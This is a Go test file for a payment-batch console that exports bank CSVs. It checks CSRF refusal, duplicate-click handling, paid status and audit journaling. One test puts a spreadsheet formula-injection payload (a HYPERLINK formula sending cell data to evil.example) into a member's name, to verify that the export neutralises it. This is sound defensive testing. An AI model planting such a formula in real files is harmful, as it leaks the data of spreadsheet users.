package console_test

import (
	"context"
	"encoding/csv"
	"html"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/fos-mobile/fos/api"
	"github.com/fos-mobile/fos/server/audit"
	"github.com/fos-mobile/fos/server/store"
)

var batchURL = regexp.MustCompile(`^/paiements/lots/(\d+)\?fait=cree$`)

// readCSV checks the export's form (BOM, ';') and returns its rows.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	s := string(body)
	if !strings.HasPrefix(s, "\uFEFF") {
		t.Fatalf("no UTF-8 BOM: %q", s[:min(20, len(s))])
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(s, "\uFEFF")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("not ';'-separated CSV: %v\n%s", err, s)
	}
	return rows
}

func TestPaymentBatchThroughTheConsole(t *testing.T) {
	e := newJournalEnv(t)
	r1, tok1 := e.approved(e.acc.Member, 123450)
	r2, tok2 := e.approved(e.acc.OtherMember, 80000)
	sup := e.supervisor()
	tok := sup.csrf("/paiements")
	if _, body, _ := sup.get("/paiements"); !strings.Contains(body, `id="payable-count"`) || !strings.Contains(body, "2 dossiers approuvés") {
		t.Fatalf("payments page does not count the 2 payable files:\n%s", body)
	}

	t.Run("without the CSRF token nothing happens", func(t *testing.T) {
		if code, _ := sup.postTo("/paiements/lots", url.Values{}); code != 403 {
			t.Fatalf("POST without token: %d, want 403", code)
		}
		if files, _, _ := e.st.PayableSummary(context.Background()); files != 2 {
			t.Fatalf("a refused POST made a batch: %d files still payable", files)
		}
	})

	code, loc := sup.postTo("/paiements/lots", url.Values{"csrf": {tok}})
	m := batchURL.FindStringSubmatch(loc)
	if code != 303 || m == nil {
		t.Fatalf("create batch: %d → %q", code, loc)
	}
	batch := "/paiements/lots/" + m[1]
	n, _ := strconv.ParseInt(m[1], 10, 64)
	label := store.BatchLabel(n)

	t.Run("a second click makes no second batch", func(t *testing.T) {
		code, loc := sup.postTo("/paiements/lots", url.Values{"csrf": {tok}})
		if code != 303 || loc != "/paiements?vide=1" {
			t.Fatalf("second create: %d → %q", code, loc)
		}
		if _, body, _ := sup.get(loc); !strings.Contains(html.UnescapeString(body), "aucun lot n'a été créé") {
			t.Fatal("the page does not say that nothing was made")
		}
	})

	t.Run("the CSV for the bank", func(t *testing.T) {
		resp, body := sup.raw(batch + "/csv")
		if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			resp.Header.Get("Content-Disposition") != `attachment; filename="`+label+`.csv"` {
			t.Fatalf("CSV answer: %d %v", resp.StatusCode, resp.Header)
		}
		rows := readCSV(t, body)
		if len(rows) != 3 || rows[0][0] != "Lot" || rows[0][8] != "Montant (MAD)" {
			t.Fatalf("rows = %q", rows)
		}
		amounts := map[string]string{}
		for _, row := range rows[1:] {
			if row[0] != label || len(row) != len(rows[0]) {
				t.Fatalf("row %q", row)
			}
			amounts[row[1]] = row[8]
			if !regexp.MustCompile(`^\d\d/\d\d/\d{4}$`).MatchString(row[9]) {
				t.Errorf("approval date %q is not dd/mm/yyyy", row[9])
			}
		}
		if amounts[r1.Reference] != "1234,50" || amounts[r2.Reference] != "800,00" {
			t.Fatalf("amounts by reference = %v", amounts)
		}
		if strings.Contains(string(body), "RIB") {
			t.Error("the member data hold no RIB, so the file should not have the column")
		}
	})

	t.Run("mark paid, then again", func(t *testing.T) {
		code, loc := sup.postTo(batch+"/payer", url.Values{"csrf": {tok}})
		if code != 303 || loc != batch+"?fait=paye" {
			t.Fatalf("pay: %d → %q", code, loc)
		}
		for _, x := range []struct {
			tok string
			id  int64
		}{{tok1, r1.ID}, {tok2, r2.ID}} {
			got := e.memberView(x.tok, x.id)
			if got.Status != api.StatusPaid || got.Events[len(got.Events)-1].Status != api.StatusPaid {
				t.Fatalf("member sees %s", got.Status)
			}
		}
		code, loc = sup.postTo(batch+"/payer", url.Values{"csrf": {tok}})
		if code != 303 || loc != batch+"?fait=deja" {
			t.Fatalf("second pay: %d → %q", code, loc)
		}
		if _, body, _ := sup.get(loc); !strings.Contains(html.UnescapeString(body), "rien n'a été payé deux fois") {
			t.Fatal("the page does not say the batch was paid already")
		}
		for _, id := range []int64{r1.ID, r2.ID} {
			ev, _ := e.st.AdminReimbursement(context.Background(), id)
			n := 0
			for _, x := range ev.Events {
				if x.Status == api.StatusPaid {
					n++
				}
			}
			if n != 1 {
				t.Fatalf("file %d has %d paid events", id, n)
			}
		}
		if code, _ := sup.postTo(batch+"/annuler", url.Values{"csrf": {tok}}); code != 409 {
			t.Fatalf("cancelling a paid batch: %d, want 409", code)
		}
	})

	t.Run("journaled", func(t *testing.T) {
		for _, a := range []struct{ action, outcome string }{
			{"supervisor.batch_create", audit.OK}, {"supervisor.batch_export", audit.OK},
			{"supervisor.batch_pay", audit.OK}, {"supervisor.batch_pay", audit.Failed},
		} {
			got, _, err := e.st.Journal(context.Background(), store.JournalFilter{Action: a.action, Outcome: a.outcome})
			if err != nil || len(got) != 1 || got[0].Target != label || got[0].AgentEmail != e.acc.Supervisor.Email {
				t.Errorf("%s %s journal: %+v, %v", a.action, a.outcome, got, err)
			}
		}
	})

	t.Run("unknown batch", func(t *testing.T) {
		if code, _, _ := sup.get("/paiements/lots/999/csv"); code != 404 {
			t.Fatalf("unknown batch CSV: %d", code)
		}
		if code, _, _ := sup.get("/paiements/lots/abc"); code != 404 {
			t.Fatalf("garbled batch id: %d", code)
		}
	})
}

// TestPaymentCSVCells puts what people and CSV files put in names into an
// approved file and reads the export back: separators, quotes and line
// breaks survive quoted; cells a spreadsheet would run as formulas are
// neutralised.
func TestPaymentCSVCells(t *testing.T) {
	e := newJournalEnv(t)
	ctx := context.Background()
	m, err := e.st.MemberByIdentifier(ctx, e.acc.Member.Identifier)
	if err != nil {
		t.Fatal(err)
	}
	m.LastName = `=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")`
	m.FirstName = "Salma; \"la\"\nseconde ligne"
	m.CIN = "+212600000000"
	if _, _, err := e.st.UpsertMembers(ctx, []store.Member{m}); err != nil {
		t.Fatal(err)
	}
	r, _ := e.approved(e.acc.Member, 99)
	sup := e.supervisor()
	tok := sup.csrf("/paiements")
	_, loc := sup.postTo("/paiements/lots", url.Values{"csrf": {tok}})
	id := batchURL.FindStringSubmatch(loc)
	if id == nil {
		t.Fatalf("create batch → %q", loc)
	}
	_, body := sup.raw("/paiements/lots/" + id[1] + "/csv")
	rows := readCSV(t, body)
	if len(rows) != 2 {
		t.Fatalf("rows = %q", rows)
	}
	row := rows[1]
	want := map[int]string{1: r.Reference, 3: "'+212600000000", 4: "'" + m.LastName, 5: "Salma; \"la\"\nseconde ligne", 8: "0,99"}
	for i, w := range want {
		if row[i] != w {
			t.Errorf("cell %d = %q, want %q", i, row[i], w)
		}
	}
	for i, cell := range row {
		if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
			t.Errorf("cell %d %q starts a formula", i, cell)
		}
	}
}
